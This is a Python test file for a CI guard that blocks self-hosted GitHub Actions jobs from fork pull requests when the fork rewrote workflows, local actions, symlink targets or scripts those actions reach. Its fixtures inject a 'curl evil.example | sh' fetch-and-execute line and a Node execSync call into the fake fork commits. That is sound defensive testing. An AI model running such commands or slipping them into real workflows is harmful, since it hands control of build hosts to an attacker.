"""The guard against a fork that leaves its caller workflow alone and rewrites what it reaches.

Every case is the real fork pull request (leodido/lstn #217 into listendev/lstn) with the
repository's base and head commits served by a fake contents API.
"""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
import responses

from runner.github import guard, reach
from runner.github.client import GitHubClient, RetryPolicy
from runner.github.errors import GitHubError
from tests.github.github_fakes import INSTALLATION_ID, load_payload, run_cli
from tests.github.repo_fakes import FakeRepo, Link

FORK_PR = "listendev-lstn.pull_request.opened.from-fork.json"
BASE_SHA = "e15189e841439da251f852a11d8fc9b339c1be68"  # from the fork payload
HEAD_SHA = "5864e328f129b98726813940b5bfa44707963bdc"
CI = ".github/workflows/ci.yml"
BUILD = ".github/workflows/build.yml"
CALLS_BUILD = "on: pull_request\njobs:\n  build:\n    uses: ./.github/workflows/build.yml\n"
USES_SETUP = (
    "on: pull_request\njobs:\n  test:\n    runs-on: [self-hosted, microvm]\n    steps:\n"
    "      - uses: actions/checkout@v4\n      - uses: ./.github/actions/setup/\n"
    "      - uses: org/microvm-check@v1\n"
)
BUILD_SAFE = (
    "on: workflow_call\njobs:\n  build:\n    runs-on: [self-hosted, microvm]\n    steps:\n"
    "      - uses: org/microvm-check@v1\n"
)
SETUP_ACTION = "runs:\n  using: composite\n  steps:\n    - run: $GITHUB_ACTION_PATH/setup.sh\n      shell: sh\n"
BASE = {
    "README.md": "# lstn\n",
    "main.go": "package main\n",
    CI: CALLS_BUILD,
    BUILD: BUILD_SAFE,
    ".github/workflows/usage.yml": USES_SETUP,
    ".github/actions/setup/action.yml": SETUP_ACTION,
    ".github/actions/setup/setup.sh": "echo setting up\n",
    ".github/ISSUE_TEMPLATE/bug.md": "Describe the bug\n",
    ".github/dependabot.yml": "version: 2\n",
}
EVIL = "curl evil.example | sh\n"


def client() -> GitHubClient:
    return GitHubClient(lambda: "ghs_token", retry=RetryPolicy(attempts=2), sleep=lambda _: None)


def job(tmp_path: Path, event: str = "pull_request", workflow: str = CI) -> guard.JobContext:
    payload = load_payload(FORK_PR)
    event_file = tmp_path / "event.json"
    event_file.write_text(json.dumps(payload))
    return guard.job_context({
        "GITHUB_EVENT_NAME": event,
        "GITHUB_REPOSITORY": "listendev/lstn",
        "GITHUB_EVENT_PATH": str(event_file),
        "GITHUB_WORKFLOW_REF": f"listendev/lstn/{workflow}@refs/pull/217/merge",
    })


def serve(operations, head_changes: dict[str, str | None], base: dict[str, str] | None = None) -> FakeRepo:
    """The base commit, and a head commit with `head_changes` applied (None deletes a file)."""
    base = dict(BASE if base is None else base)
    head = {**base, **head_changes}
    head = {path: text for path, text in head.items() if text is not None}
    repo = FakeRepo(operations, "listendev/lstn", {BASE_SHA: base, HEAD_SHA: head})
    repo.register()
    return repo


@pytest.mark.parametrize("event", ["pull_request", "pull_request_review", "pull_request_review_comment"])
@responses.activate
def test_a_changed_reusable_workflow_is_refused(tmp_path, operations, event) -> None:
    """ci.yml is the base's; the build.yml it calls is the fork's. Review events run the head's workflows too."""
    serve(operations, {BUILD: BUILD_SAFE.replace("- uses: org/microvm-check@v1", f"- run: {EVIL}")})
    verdict = guard.evaluate(job(tmp_path, event), guard.RepoRules(), client)
    assert not verdict.allowed
    assert verdict.reasons[0] == (
        f"this {event} job comes from the fork leodido/lstn, and the workflow .github/workflows/build.yml, which it "
        "calls, was changed by pull request #217, so it could run anything on this host."
    )
    assert "changes files under .github/" in verdict.reasons[1]
    line = guard.error_lines(verdict)[0]
    assert "pull_request_target" in line and "github.event.pull_request.head.sha" in line


@responses.activate
def test_a_changed_local_action_is_refused_even_when_forks_may_change_other_github_files(tmp_path, operations) -> None:
    """Only the action's script changed, not its action.yml: the whole action directory is compared."""
    serve(operations, {".github/actions/setup/setup.sh": EVIL, ".github/ISSUE_TEMPLATE/bug.md": "Steps\n"})
    rules = guard.RepoRules(fork_may_change=(".github/ISSUE_TEMPLATE", ".github/actions-docs"))
    verdict = guard.evaluate(job(tmp_path, workflow=".github/workflows/usage.yml"), rules, client)
    assert not verdict.allowed
    assert "the local action ./.github/actions/setup, which it uses, was changed by pull request #217" in (
        verdict.reasons[0])
    assert verdict.reasons[1:] == (
        "this pull_request job comes from the fork leodido/lstn, and pull request #217 changes "
        ".github/actions, where workflows, actions and the scripts they run live, so forks may not change it. "
        "If these files never run (issue templates, say), the host's guard rules may list them under "
        "fork_may_change for listendev/lstn.",
    )


@responses.activate
def test_a_local_action_outside_github_reached_through_a_called_workflow_is_refused(tmp_path, operations) -> None:
    """.github is the same at both commits; ci.yml calls build.yml, which uses ./ci/lint, which the fork changed."""
    base = {**BASE, BUILD: BUILD_SAFE + "      - uses: ./ci/lint\n",
            "ci/lint/action.yml": "runs:\n  using: composite\n  steps:\n    - uses: ./ci/inner\n",
            "ci/inner/action.yml": SETUP_ACTION, "ci/inner/setup.sh": "true\n"}
    repo = serve(operations, {"ci/inner/setup.sh": EVIL}, base=base)
    verdict = guard.evaluate(job(tmp_path), guard.RepoRules(), client)
    assert len(verdict.reasons) == 1
    assert "the local action ./ci/inner, which it uses, was changed by pull request #217" in verdict.reasons[0]
    # .github's tree sha matched, so its files were read at the base only
    assert (BUILD, HEAD_SHA) not in repo.requests and (BUILD, BASE_SHA) in repo.requests


@responses.activate
def test_an_unchanged_github_directory_passes(tmp_path, operations) -> None:
    repo = serve(operations, {"main.go": "package main // fork\n", "README.md": "# lstn, forked\n"})
    verdict = guard.evaluate(job(tmp_path, workflow=".github/workflows/usage.yml"), guard.RepoRules(), client)
    assert verdict == guard.Verdict(True, ())
    assert repo.requests == [
        ("", BASE_SHA), ("", HEAD_SHA),  # the root listings name .github's tree sha
        (".github/workflows/usage.yml", BASE_SHA), (".github/actions/setup/action.yml", BASE_SHA),
        (".github/actions/setup", BASE_SHA),  # searched for symbolic links
    ]


@responses.activate
def test_a_changed_issue_template_is_refused_by_default_and_allowed_by_the_rules_file(tmp_path, operations) -> None:
    serve(operations, {".github/ISSUE_TEMPLATE/bug.md": "Describe the bug, briefly\n",
                       ".github/ISSUE_TEMPLATE/feature.md": "Describe the feature\n"})
    refused = guard.evaluate(job(tmp_path), guard.RepoRules(), client)
    assert len(refused.reasons) == 1 and "changes files under .github/" in refused.reasons[0]
    assert "fork_may_change for listendev/lstn" in refused.reasons[0]
    rules_file = tmp_path / "rules.yml"
    rules_file.write_text("repositories:\n  listendev/lstn:\n    fork_may_change: [.github/ISSUE_TEMPLATE/]\n")
    rules = guard.load_rules(rules_file).for_repository("listendev/lstn")
    assert rules.fork_may_change == (".github/ISSUE_TEMPLATE",)
    assert guard.evaluate(job(tmp_path), rules, client).allowed


@responses.activate
def test_fork_may_change_covers_only_the_paths_it_names(tmp_path, operations) -> None:
    serve(operations, {".github/ISSUE_TEMPLATE/bug.md": "x\n", ".github/dependabot.yml": "version: 3\n",
                       ".github/scripts/deploy.sh": EVIL})
    verdict = guard.evaluate(job(tmp_path), guard.RepoRules(fork_may_change=(".github/ISSUE_TEMPLATE",)), client)
    assert "changes .github/dependabot.yml, .github/scripts, where" in verdict.reasons[0]


@responses.activate
def test_nested_allowed_paths_are_compared_directory_by_directory(tmp_path, operations) -> None:
    base = {**BASE, ".github/docs/img/a.png": "png", ".github/docs/build.sh": "true\n"}
    serve(operations, {".github/docs/img/a.png": "png2", ".github/docs/img/b.png": "new"}, base=base)
    rules = guard.RepoRules(fork_may_change=(".github/docs/img",))
    assert guard.evaluate(job(tmp_path), rules, client).allowed
    responses.reset()
    serve(operations, {".github/docs/img/a.png": "png2", ".github/docs/build.sh": EVIL}, base=base)
    verdict = guard.evaluate(job(tmp_path), rules, client)
    assert "changes .github/docs/build.sh, where" in verdict.reasons[0]


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({CI: CALLS_BUILD + "  other:\n    uses: ./.github/workflows/new.yml\n",
          ".github/workflows/new.yml": BUILD_SAFE}, "its workflow .github/workflows/ci.yml was changed by"),
        ({BUILD: None}, "the workflow .github/workflows/build.yml, which it calls, was removed by pull request #217"),
    ],
)
@responses.activate
def test_caller_and_removed_workflows(tmp_path, operations, changes, message) -> None:
    serve(operations, changes)
    verdict = guard.evaluate(job(tmp_path), guard.RepoRules(), client)
    assert message in verdict.reasons[0]


@responses.activate
def test_a_repository_github_hides_is_not_an_empty_one(tmp_path) -> None:
    """GitHub answers 404 for a repository the App cannot read: that must not pass for "nothing changed"."""
    responses.get(re.compile(r"https://api\.github\.com/repos/listendev/lstn/contents/.*"), status=404,
                  json={"message": "Not Found"})
    with pytest.raises(GitHubError, match="no files of listendev/lstn at e15189e8.*contents: read"):
        guard.evaluate(job(tmp_path), guard.RepoRules(), client)


@pytest.mark.parametrize(
    ("workflow", "uses", "message"),
    [(".github/workflows/gone.yml", None, "its workflow .github/workflows/gone.yml cannot be found"),
     (CI, "./.github/actions/none", "./.github/actions/none, which it uses, cannot be found"),
     (CI, "./.github/workflows", "./.github/workflows, which it uses, cannot be found")],
)
@responses.activate
def test_what_the_guard_cannot_find_is_refused(tmp_path, operations, workflow, uses, message) -> None:
    base = {**BASE, BUILD: BUILD_SAFE + (f"      - uses: {uses}\n" if uses else "")}
    serve(operations, {"main.go": "package fork\n"}, base=base)
    verdict = guard.evaluate(job(tmp_path, workflow=workflow), guard.RepoRules(), client)
    assert len(verdict.reasons) == 1 and message in verdict.reasons[0]


@pytest.mark.parametrize(
    ("uses", "message"),
    [("./", "is the repository's root (`uses: ./`)"), ("./../other", "a path the guard cannot compare"),
     ("./README.md", "a path the guard cannot compare")],
)
@responses.activate
def test_local_actions_the_guard_cannot_compare_are_refused(tmp_path, operations, uses, message) -> None:
    """Even in a base workflow, with .github unchanged: the fork changed main.go only."""
    base = {**BASE, BUILD: BUILD_SAFE + f"      - uses: {uses}\n"}
    serve(operations, {"main.go": "package fork\n"}, base=base)
    verdict = guard.evaluate(job(tmp_path), guard.RepoRules(), client)
    assert len(verdict.reasons) == 1 and message in verdict.reasons[0]


@responses.activate
def test_the_walk_is_bounded(tmp_path, operations, monkeypatch) -> None:
    """A chain of unchanged local actions longer than the bound is refused, not followed forever."""
    monkeypatch.setattr(reach, "MAX_REACHED", 5)
    step = "runs:\n  using: composite\n  steps:\n    - uses: ./ci/a{}\n"
    chain = {f"ci/a{i}/action.yml": step.format(i + 1) for i in range(8)}
    base = {**BASE, BUILD: BUILD_SAFE + "      - uses: ./ci/a0\n", **chain}
    serve(operations, {"main.go": "package fork\n"}, base=base)
    verdict = guard.evaluate(job(tmp_path), guard.RepoRules(), client)
    assert len(verdict.reasons) == 1
    assert "./ci/a3, which it uses, is more than the 5 workflows and actions the guard follows" in verdict.reasons[0]


def test_local_uses_reads_jobs_steps_and_composite_steps() -> None:
    text = (
        "jobs:\n  a:\n    uses: ./.github/workflows/b.yml\n  c:\n    steps:\n      - uses: ./x/y/\n"
        "      - uses: actions/checkout@v4\n      - uses: docker://alpine\n      - run: ./not-a-use\n"
        "runs:\n  steps:\n    - uses: ./z\n"
    )
    assert reach.local_uses(text) == [
        reach.Target("workflow", ".github/workflows/b.yml"), reach.Target("action", "x/y"), reach.Target("action", "z"),
    ]
    with pytest.raises(ValueError, match="expected ',' or ']', but got '<stream end>'"):
        reach.local_uses("jobs: [unclosed\n")


@pytest.mark.parametrize(
    ("paths", "message"),
    [("[.github/workflows]", "holds workflows or actions"), ("[.github/actions/x]", "holds workflows or actions"),
     ("[docs]", "not under .github/"), ("[.github]", "not under .github/"), ("[.github/../x]", "relative")],
)
def test_fork_may_change_never_covers_workflows_or_actions(tmp_path, paths, message) -> None:
    path = tmp_path / "rules.yml"
    path.write_text(f"default:\n  fork_may_change: {paths}\n")
    with pytest.raises(guard.GuardError, match=message):
        guard.load_rules(path)


@responses.activate
def test_guard_command_refuses_a_changed_reusable_workflow(tmp_path, monkeypatch, capsys, operations, private_pem,
                                                           token_endpoint) -> None:
    """End to end: `microvm-check guard` as the hook runs it, with a rules file that relaxes .github."""
    key = tmp_path / "app.pem"
    key.write_text(private_pem)
    config = tmp_path / "github.yml"
    config.write_text(f"app_id: 1\nprivate_key_path: {key}\ninstallation_id: {INSTALLATION_ID}\n")
    rules = tmp_path / "rules.yml"
    rules.write_text("default:\n  fork_may_change: [.github/ISSUE_TEMPLATE]\n")
    token_endpoint(responses)
    serve(operations, {BUILD: BUILD_SAFE + f"      - run: {EVIL}"})
    context = job(tmp_path)
    monkeypatch.setenv("GITHUB_EVENT_NAME", context.event_name)
    monkeypatch.setenv("GITHUB_REPOSITORY", context.repository)
    monkeypatch.setenv("GITHUB_EVENT_PATH", str(tmp_path / "event.json"))
    monkeypatch.setenv("GITHUB_WORKFLOW_REF", f"listendev/lstn/{CI}@refs/pull/217/merge")
    assert run_cli(["guard", "--config", str(config), "--rules", str(rules)]) == 1
    out = capsys.readouterr().out.splitlines()
    assert len(out) == 2 and all(line.startswith("::error title=microvm-check guard::") for line in out)
    assert ".github/workflows/build.yml, which it calls, was changed by pull request #217" in out[0]
    assert "changes .github/workflows, where" in out[1]


@pytest.mark.parametrize("uses", ["$/ci/lint", "$//ci/lint/"])
@responses.activate
def test_a_self_repository_action_the_fork_changed_is_refused(tmp_path, operations, uses) -> None:
    """`uses: $/path` (the runner's self-repository syntax) runs `path` of this repository at the workflow's
    own commit: for a fork's pull request, the merge of the fork's changes. The fork rewrote only the action."""
    base = {**BASE, BUILD: BUILD_SAFE + f"      - uses: {uses}\n",
            "ci/lint/action.yml": SETUP_ACTION, "ci/lint/setup.sh": "true\n"}
    serve(operations, {"ci/lint/setup.sh": EVIL}, base=base)
    verdict = guard.evaluate(job(tmp_path), guard.RepoRules(), client)
    assert len(verdict.reasons) == 1
    assert "the local action ./ci/lint, which it uses, was changed by pull request #217" in verdict.reasons[0]


@pytest.mark.parametrize("uses", [".\\ci\\lint", "./ci\\lint"])
@responses.activate
def test_a_local_action_spelled_with_backslashes_is_refused(tmp_path, operations, uses) -> None:
    """The runner takes `.\\path` as a local action too; on Linux a backslash is part of a name, which a
    fork can create (a root entry named `.\\ci\\lint`): the guard does not guess which one runs."""
    base = {**BASE, BUILD: BUILD_SAFE + f"      - uses: '{uses}'\n"}
    serve(operations, {"main.go": "package fork\n", ".\\ci\\lint/action.yml": SETUP_ACTION}, base=base)
    verdict = guard.evaluate(job(tmp_path), guard.RepoRules(), client)
    assert len(verdict.reasons) == 1 and "is a path the guard cannot compare" in verdict.reasons[0]


def crowded(names: int, prefix: str = "-") -> dict[str, str]:
    """Root files whose names sort before `.github`, enough to push it past the listing's 1,000 entries."""
    return {f"{prefix}{i:04}": "x\n" for i in range(names)}


@responses.activate
def test_github_hidden_by_a_truncated_root_listing_is_not_unchanged(tmp_path, operations) -> None:
    """GitHub lists at most 1,000 entries of a directory: in a root that holds more, `.github` may be
    missing at both commits, which must not read as "the same tree" while the fork rewrote build.yml."""
    base = {**BASE, **crowded(1000)}
    serve(operations, {BUILD: BUILD_SAFE + f"      - run: {EVIL}"}, base=base)
    with pytest.raises(GitHubError, match=r"lists only the first 1,000 entries of listendev/lstn:/@e15189e8"):
        guard.evaluate(job(tmp_path), guard.RepoRules(), client)


@responses.activate
def test_a_protected_path_hidden_by_a_truncated_listing_is_not_unchanged(tmp_path, operations) -> None:
    base = {**BASE, **{f"scripts/{name}": text for name, text in crowded(1000).items()}, "scripts/z.sh": "true\n"}
    serve(operations, {"scripts/z.sh": EVIL}, base=base)
    with pytest.raises(GitHubError, match="lists only the first 1,000 entries of listendev/lstn:scripts@"):
        guard.evaluate(job(tmp_path), guard.RepoRules(protected_paths=("scripts/z.sh",)), client)


@responses.activate
def test_a_big_directory_that_still_lists_what_the_guard_needs_is_fine(tmp_path, operations) -> None:
    """Only a name the listing leaves out is unknown: `.github` sorts before the 1,000 shown here."""
    base = {**BASE, **crowded(1000, prefix="z")}
    serve(operations, {"main.go": "package fork\n"}, base=base)
    assert guard.evaluate(job(tmp_path), guard.RepoRules(), client).allowed


COMPOSITE_LINT = "runs:\n  using: composite\n  steps:\n    - run: $GITHUB_ACTION_PATH/lint.sh\n      shell: sh\n"


@pytest.mark.parametrize(
    ("links", "changes"),
    [  # a script of the action, and the action's metadata itself, linked to files outside its directory
        ({".github/actions/setup/setup.sh": Link("../../../scripts/setup.sh"), "scripts/setup.sh": "true\n"},
         {"scripts/setup.sh": EVIL}),
        ({".github/actions/setup/action.yml": Link("../../../shared/setup.yml"), "shared/setup.yml": SETUP_ACTION},
         {"shared/setup.yml": SETUP_ACTION.replace("$GITHUB_ACTION_PATH/setup.sh", EVIL.strip())}),
    ],
)
@responses.activate
def test_an_action_holding_a_symlink_is_refused(tmp_path, operations, links, changes) -> None:
    """The checkout on the host follows the link to the fork's file, while the action directory's tree
    sha (and .github's) only covers the link's text: the base's link is unchanged, its target is not."""
    serve(operations, changes, base={**BASE, **links})
    verdict = guard.evaluate(job(tmp_path, workflow=".github/workflows/usage.yml"), guard.RepoRules(), client)
    assert len(verdict.reasons) == 1
    assert "the local action ./.github/actions/setup, which it uses, holds a symbolic link" in verdict.reasons[0]


@pytest.mark.parametrize(
    "runs",
    ["using: node20\n  main: ../../dist/lint.js", "using: node20\n  main: index.js\n  post: ../x/post.js",
     "using: node20\n  main: /tmp/lint.js", "using: node20\n  pre: sub/../../x.js\n  main: index.js",
     "using: docker\n  image: ../../Dockerfile"],
)
@responses.activate
def test_an_action_that_runs_a_file_outside_its_directory_is_refused(tmp_path, operations, runs) -> None:
    """The runner joins `main`, `pre`, `post` and a Dockerfile `image` to the action's directory with no
    check: `../../dist/lint.js` is a file the fork may rewrite, outside the tree the guard compared."""
    base = {**BASE, BUILD: BUILD_SAFE + "      - uses: ./ci/lint\n", "ci/lint/action.yml": f"runs:\n  {runs}\n",
            "ci/lint/index.js": "", "dist/lint.js": "// lint\n"}
    serve(operations, {"dist/lint.js": "require('child_process').execSync('id')\n"}, base=base)
    verdict = guard.evaluate(job(tmp_path), guard.RepoRules(), client)
    assert len(verdict.reasons) == 1
    assert "the local action ./ci/lint, which it uses, runs a file outside its own directory" in verdict.reasons[0]


@pytest.mark.parametrize(
    "runs", ["using: node20\n  main: dist/index.js\n  post: ./post.js", "using: docker\n  image: Dockerfile",
             "using: docker\n  image: docker://alpine:3", COMPOSITE_LINT.removeprefix("runs:\n  ")],
)
@responses.activate
def test_actions_that_stay_in_their_directory_pass(tmp_path, operations, runs) -> None:
    base = {**BASE, BUILD: BUILD_SAFE + "      - uses: ./ci/lint\n", "ci/lint/action.yml": f"runs:\n  {runs}\n",
            "ci/lint/dist/index.js": "", "ci/lint/lint.sh": "true\n"}
    serve(operations, {"main.go": "package fork\n"}, base=base)
    assert guard.evaluate(job(tmp_path), guard.RepoRules(), client).allowed


@responses.activate
def test_the_search_for_links_is_bounded(tmp_path, operations, monkeypatch) -> None:
    monkeypatch.setattr(reach, "MAX_ACTION_LISTINGS", 2)
    base = {**BASE, BUILD: BUILD_SAFE + "      - uses: ./ci/lint\n", "ci/lint/action.yml": COMPOSITE_LINT,
            "ci/lint/a/b/c.sh": "true\n"}
    serve(operations, {"main.go": "package fork\n"}, base=base)
    verdict = guard.evaluate(job(tmp_path), guard.RepoRules(), client)
    assert "./ci/lint, which it uses, has more than 2 directories for the guard to search" in verdict.reasons[0]
